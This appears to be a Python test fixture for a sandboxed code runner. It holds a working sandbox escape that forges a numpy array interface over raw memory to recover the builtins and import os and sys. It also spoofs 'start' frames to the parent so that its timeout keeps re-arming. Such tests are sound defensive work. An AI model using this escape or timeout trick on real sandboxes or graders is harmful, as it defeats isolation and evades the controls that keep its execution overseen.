# After an escape, keep re-sending "start" frames: each one re-arms the parent's deadline, so a
# sleeping child (no CPU used, RLIMIT_CPU never fires) holds the parent as long as it likes.
# Without the escape it loops forever, which must also end as time_limit.
import math

import numpy as np


def escape():
    getattr(math, "__init__")("math", {"__array_interface__": {
        "shape": (1,), "typestr": "|O", "version": 3, "data": (id(len) + 24, False)}})
    return np.asarray(math)[0]


def f():
    try:
        b = escape()
        load = lambda name: b.eval(f"__import__('{name}')", {"__builtins__": b})
        os, sys, json, time = load("os"), load("sys"), load("json"), load("time")
    except Exception:
        while True:
            pass
    fd = int(sys.argv[3])
    data = json.dumps({"type": "start", "index": 0}).encode()
    end = time.monotonic() + 2.5
    while time.monotonic() < end:
        os.write(fd, len(data).to_bytes(4, "big") + data)
        time.sleep(0.2)
    return 1
